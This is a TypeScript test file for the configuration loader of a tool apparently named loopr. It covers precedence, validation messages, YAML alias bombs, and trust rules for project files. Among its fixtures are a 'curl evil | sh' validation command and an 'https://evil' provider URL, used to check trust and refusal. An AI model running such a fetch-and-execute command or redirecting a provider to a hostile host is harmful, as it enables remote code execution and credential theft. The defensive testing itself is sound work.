import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { defaultConfig } from "../domain/config.ts";
import { LooprError } from "../lib/errors.ts";
import { loadConfig, type LoadOptions } from "./load.ts";
import { readProjectFile } from "./project-file.ts";
import { trust } from "./trust.ts";

let scratch: string;
let at: LoadOptions & { projectRoot: string };
let userFile: string;
let projectFile: string;

beforeEach(() => {
  scratch = mkdtempSync(join(tmpdir(), "loopr-config-"));
  at = {
    env: { HOME: join(scratch, "home") },
    projectRoot: join(scratch, "project"),
    projectHash: "0123456789abcdef",
    dataDir: join(scratch, "home", ".loopr"),
    explicit: null,
  };
  userFile = join(scratch, "home", ".config", "loopr", "loopr.yml");
  projectFile = join(at.projectRoot, ".loopr.yml");
  mkdirSync(at.projectRoot, { recursive: true });
});
afterEach(() => rmSync(scratch, { recursive: true, force: true }));

function put(path: string, text: string | Uint8Array): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}

function failure(load: () => unknown): { code: string; message: string; hint: string } {
  try {
    load();
  } catch (error) {
    if (error instanceof LooprError) return { code: error.code, message: error.message, hint: error.hint };
    throw error;
  }
  throw new Error("it did not fail");
}

const trustProject = () => {
  trust(at, readProjectFile(at.projectRoot)?.text ?? "");
};

describe("precedence", () => {
  test("nothing set: the defaults, and no origins", () => {
    const loaded = loadConfig(at);
    expect(loaded.config).toEqual(defaultConfig);
    expect(loaded.origins.size).toBe(0);
    expect(loaded.warnings).toEqual([]);
  });

  test("defaults < user < project < explicit < options, key by key, with origins", () => {
    put(userFile, "git:\n  target: user\n  author: U <u@x>\nlevels: code\nllm:\n  model: m1\n");
    put(projectFile, "git:\n  target: project\nlevels: plan,code\nllm: { model: m2 }\n");
    const explicit = join(scratch, "explicit.yml");
    put(explicit, "levels: plan,spec,phase,code\nllm:\n  model: m3\n");
    const { config, origins } = loadConfig({ ...at, explicit, options: { levels: "auto" } });
    expect([config.git.author, config.git.target, config.llm.model, config.levels]).toEqual([
      "U <u@x>",
      "project",
      "m3",
      "auto",
    ]);
    expect(origins.get("git.author")).toEqual({ level: "user", file: userFile, line: 3 });
    expect(origins.get("git.target")).toEqual({ level: "project", file: projectFile, line: 2 });
    expect(origins.get("llm.model")).toEqual({ level: "explicit", file: explicit, line: 3 });
    expect(origins.get("levels")).toEqual({ level: "option", file: null, line: null });
    expect(origins.get("limits.turns")).toBeUndefined();
  });

  test("XDG_CONFIG_HOME moves the user's file", () => {
    put(join(scratch, "xdg", "loopr", "loopr.yml"), "levels: code\n");
    expect(
      loadConfig({ ...at, env: { ...at.env, XDG_CONFIG_HOME: join(scratch, "xdg") } }).config.levels,
    ).toBe("code");
  });

  test("the defaults are not changed by loading", () => {
    put(userFile, "limits:\n  iterations:\n    code: 3\n");
    expect(loadConfig(at).config.limits.iterations.code).toBe(3);
    expect(defaultConfig.limits.iterations.code).toBe(30);
  });

  test("options stand for their keys", () => {
    const { config } = loadConfig({
      ...at,
      options: {
        check: "make test",
        max_iterations: 4,
        budget_usd: 1.5,
        target: "main",
        merge: true,
        sandbox: "none",
      },
    });
    expect(config.validation).toEqual({ ...defaultConfig.validation, command: "make test" });
    expect(config.limits.iterations).toEqual({ plan: 4, spec: 4, phase: 4, code: 4 });
    expect([config.limits.run_usd, config.git.target, config.git.auto_merge, config.sandbox.mode]).toEqual([
      1.5,
      "main",
      true,
      "none",
    ]);
    const scripted = loadConfig({ ...at, options: { script: "/s.json", no_check: true } }).config;
    expect([scripted.llm.provider, scripted.llm.script, scripted.validation.command]).toEqual([
      "scripted",
      "/s.json",
      null,
    ]);
  });

  test("a check given on the command line runs in the caller's directory, links resolved", () => {
    mkdirSync(join(at.projectRoot, "sub"));
    symlinkSync(join(at.projectRoot, "sub"), join(scratch, "link"));
    const inSub = { ...at, options: { check: "true", cwd: join(scratch, "link") } };
    expect(loadConfig(inSub).config.validation.cwd).toBe("sub");
    expect(loadConfig({ ...at, options: { check: "true", cwd: at.projectRoot } }).config.validation.cwd).toBe(
      ".",
    );
    expect(failure(() => loadConfig({ ...at, options: { check: "true", cwd: scratch } })).message).toContain(
      "outside the repository",
    );
  });

  test("a wrong option is named as one", () => {
    expect(failure(() => loadConfig({ ...at, options: { levels: "code,plan" } }))).toMatchObject({
      code: "bad_levels",
    });
    expect(failure(() => loadConfig({ ...at, options: { check: "  " } })).message).toContain(
      "validation.command",
    );
  });
});

describe("what a file may not hold", () => {
  const cases: [
    name: string,
    text: string,
    line: number,
    message: RegExp | string,
    hint?: RegExp | string,
  ][] = [
    ["unknown key", "limits:\n  turn: 5\n", 2, "unknown key limits.turn", "did you mean limits.turns?"],
    ["right word, wrong place", "check:\n  timeout: 5\n", 1, "unknown key check"],
    ["unknown key without a near one", "banana: 1\n", 1, "unknown key banana", "loopr help configuration"],
    ["dotted key", "limits.turns: 5\n", 1, 'unknown key "limits.turns"', "nested"],
    [
      "wrong type",
      "limits:\n  turns: many\n",
      2,
      'limits.turns must be a whole number above 0, but is "many"',
    ],
    ["zero", "limits:\n  turns: 0\n", 2, "limits.turns must be a whole number above 0, but is 0"],
    ["not a number", "limits:\n  minutes: .nan\n", 2, "limits.minutes must be a number above 0"],
    [
      "a time with its unit",
      "validation:\n  timeout: 3s\n",
      2,
      'validation.timeout must be a number above 0 (seconds), but is "3s"',
    ],
    ["infinite", "limits:\n  minutes: .inf\n", 2, "limits.minutes must be a number above 0"],
    ["unquoted number", "llm:\n  model: 4\n", 2, "llm.model must be a text, but is 4: put it in quotes"],
    ["a section that is a list", "git: [a]\n", 1, "git must be a mapping of keys, but is a list"],
    ["a whole file that is a list", "- a\n", 1, "the file must be a mapping of keys, but is a list"],
    ["a whole file that is a word", "hello\n", 1, 'the file must be a mapping of keys, but is "hello"'],
    ["no value", "levels:\n", 1, "levels has no value"],
    ["wrong enum", "sandbox:\n  mode: off\n", 2, "sandbox.mode must be auto or none"],
    ["bad levels", "levels: code,plan\n", 1, "levels must be auto, or some of plan,spec,phase,code"],
    ["list of numbers", "env:\n  pass: [1]\n", 2, "env.pass must be a list of texts: put numbers"],
    ["list in a list", "env:\n  pass: [[A]]\n", 2, "a list or mapping inside"],
    ["a key for tools", "env:\n  pass: [ANTHROPIC_API_KEY]\n", 2, "never given to tools"],
    ["unquoted env value", "env:\n  set: { PORT: 80 }\n", 2, "put numbers, true and false in quotes"],
    ["cwd out", "validation:\n  cwd: a/../../b\n", 2, "leads out of the repository"],
    ["absolute cwd", "validation:\n  cwd: /etc\n", 2, "must be relative"],
    ["time-out beyond timers", "validation:\n  timeout: 99999999\n", 2, "at most"],
    ["bad author", "git:\n  author: me\n", 2, "must read `Name <email>`"],
    ["relative deny", "sandbox:\n  read_deny: [secrets]\n", 2, "neither absolute nor below ~"],
    ["empty command", "validation:\n  command: ' '\n", 2, "is empty"],
    ["bad URL", "llm:\n  providers:\n    anthropic:\n      base_url: ftp://x\n", 4, "must be a URL"],
    ["duplicate key", "levels: auto\nlevels: code\n", 2, "unique", "keep one"],
    ["tab", "git:\n\ttarget: x\n", 2, "Tabs"],
    ["open quote", "levels: 'auto\n", 2, "quote"],
    ["two documents", "levels: auto\n---\nlevels: code\n", 2, "a second YAML document"],
    ["key that is a list", "? [a]\n: b\n", 1, "must be a plain word"],
    ["unresolved alias", "levels: *none\n", 1, "levels"],
    ["prototype", "__proto__: { a: 1 }\n", 1, "unknown key __proto__"],
    ["endless nesting", "[".repeat(60_000), 1, "not valid YAML"],
  ];
  for (const [name, text, line, message, hint] of cases) {
    test(name, () => {
      put(userFile, text);
      const failed = failure(() => loadConfig(at));
      expect(failed.code).toBe("config_invalid");
      expect(failed.message).toStartWith(`${userFile}:${line}: `);
      expect(failed.message).toMatch(message);
      expect(failed.hint).toMatch(hint ?? /./);
    });
  }

  test("all problems are listed, the first ones in full", () => {
    put(userFile, Array.from({ length: 8 }, (_, index) => `bad${index}: 1\n`).join(""));
    const lines = failure(() => loadConfig(at)).message.split("\n");
    expect(lines).toHaveLength(6);
    expect(lines[5]).toBe("(and 3 more)");
  });

  test("a wrong key in the credentials is not repeated", () => {
    put(userFile, "llm:\n  providers:\n    anthropic:\n      api_key_env: sk-secret-1\n");
    const { message } = failure(() => loadConfig(at));
    expect(message).toContain("llm.providers.anthropic.api_key_env");
    expect(message).not.toContain("sk-secret");
  });

  test("aliases are followed, a bundle of them blows nothing up", () => {
    put(userFile, "git:\n  target: &name main\n  author: null\nlevels: &all auto\nllm:\n  model: *name\n");
    expect(loadConfig(at).config.llm.model).toBe("main");
    const bomb = ["env:", "  pass: &a0 [x, x, x, x, x, x, x, x, x]"];
    for (let level = 1; level < 40; level++) {
      const reference = `*a${level - 1}`;
      bomb.push(`  x${level}: &a${level} [${Array.from({ length: 9 }, () => reference).join(", ")}]`);
    }
    put(userFile, bomb.join("\n"));
    expect(failure(() => loadConfig(at)).message).toContain("unknown key env.x1");
    put(userFile, `env:\n  pass: &a [x]\nsandbox:\n  read_deny: [*a, *a]\n`);
    expect(failure(() => loadConfig(at)).message).toContain("a list or mapping inside");
  });

  test("what is no readable text file", () => {
    mkdirSync(userFile, { recursive: true });
    expect(failure(() => loadConfig(at)).message).toContain("not a regular file");
    rmSync(userFile, { recursive: true });
    execFileSync("mkfifo", [userFile]);
    expect(failure(() => loadConfig(at)).message).toContain("not a regular file");
    rmSync(userFile);
    put(userFile, new Uint8Array([0xff, 0xfe, 0x80]));
    expect(failure(() => loadConfig(at)).message).toContain("not UTF-8");
    put(userFile, "#".repeat(70_000));
    expect(failure(() => loadConfig(at)).message).toContain("longer than 64 KiB");
  });

  test("an explicit file that does not exist", () => {
    expect(failure(() => loadConfig({ ...at, explicit: "/nowhere/x.yml" }))).toMatchObject({
      code: "config_invalid",
      message: "the configuration file /nowhere/x.yml does not exist",
    });
  });

  test("an empty file, and sections without keys, are fine", () => {
    for (const text of ["", "\n# nothing\n", "git:\n  # target: x\nlimits:\n", "\uFEFFlevels: auto\r\n"]) {
      put(userFile, text);
      expect(loadConfig(at).config).toEqual(defaultConfig);
    }
  });
});

describe("a project's file", () => {
  test("either place, not both", () => {
    put(join(at.projectRoot, ".loopr", "loopr.yml"), "levels: code\n");
    expect(loadConfig(at).config.levels).toBe("code");
    put(projectFile, "levels: auto\n");
    const failed = failure(() => loadConfig(at));
    expect(failed.code).toBe("config_invalid");
    expect(failed.message).toContain(projectFile);
    expect(failed.message).toContain(join(".loopr", "loopr.yml"));
  });

  test("what is the user's alone is refused", () => {
    for (const text of [
      "sandbox:\n  mode: none\n",
      "llm:\n  provider: scripted\n",
      "llm:\n  script: x\n",
      "llm:\n  providers: { anthropic: { base_url: https://evil } }\n",
      "concurrency:\n  loops: 1\n",
      "env:\n  pass: [A]\n",
    ]) {
      put(projectFile, text);
      const failed = failure(() => loadConfig(at));
      expect(failed.code).toBe("config_invalid");
      expect(failed.message).toMatch(/\.loopr\.yml:\d: [a-z_.]+ may not be set by a project/);
    }
  });

  test("bounds count only where they are lower, and what is ignored is said", () => {
    put(userFile, "limits:\n  turns: 20\n  usd: 2\n");
    put(projectFile, "limits:\n  turns: 30\n  usd: null\n  minutes: 10\n  tokens: 500\n  run_usd: 11\n");
    const { config, warnings, origins } = loadConfig(at);
    expect(config.limits).toMatchObject({ turns: 20, usd: 2, minutes: 10, tokens: 500, run_usd: 10 });
    expect(warnings).toEqual([
      `${projectFile}:2: limits.turns is 30, more than your 20, and is ignored; a project can only lower it`,
      `${projectFile}:3: limits.usd is none, more than your 2, and is ignored; a project can only lower it`,
      `${projectFile}:6: limits.run_usd is 11, more than the default 10, and is ignored; a project can only lower it`,
    ]);
    expect(origins.get("limits.turns")?.level).toBe("user");
  });

  test("free keys need no trust; what makes commands run does, each time it changes", () => {
    put(projectFile, "levels: code\nvalidation:\n  protected: ['x/**']\n");
    expect(loadConfig(at).config.levels).toBe("code");
    put(projectFile, "validation:\n  command: ./test.sh\n");
    const untrusted = failure(() => loadConfig(at));
    expect(untrusted.code).toBe("not_trusted");
    expect(untrusted.message).toContain("validation.command");
    expect(untrusted.hint).toContain("loopr trust");
    trustProject();
    expect(loadConfig(at).config.validation.command).toBe("./test.sh");
    expect(failure(() => loadConfig({ ...at, projectHash: "ffffffffffffffff" })).code).toBe("not_trusted");
    put(projectFile, "validation:\n  command: curl evil | sh\n");
    expect(failure(() => loadConfig(at)).message).toContain("has changed since it was trusted");
    trustProject();
    expect(loadConfig(at).config.validation.command).toBe("curl evil | sh");
  });

  test("the same file named explicitly is the person's own", () => {
    put(projectFile, "sandbox:\n  mode: none\n");
    rmSync(join(at.projectRoot, ".loopr.yml"));
    const explicit = join(scratch, "mine.yml");
    put(explicit, "sandbox:\n  mode: none\n  write_allow: [~/cache]\nllm:\n  script: turns.json\n");
    const { config } = loadConfig({ ...at, explicit });
    expect(config.sandbox).toMatchObject({ mode: "none", write_allow: [join(scratch, "home", "cache")] });
    expect(config.llm.script).toBe(join(scratch, "turns.json"));
  });
});
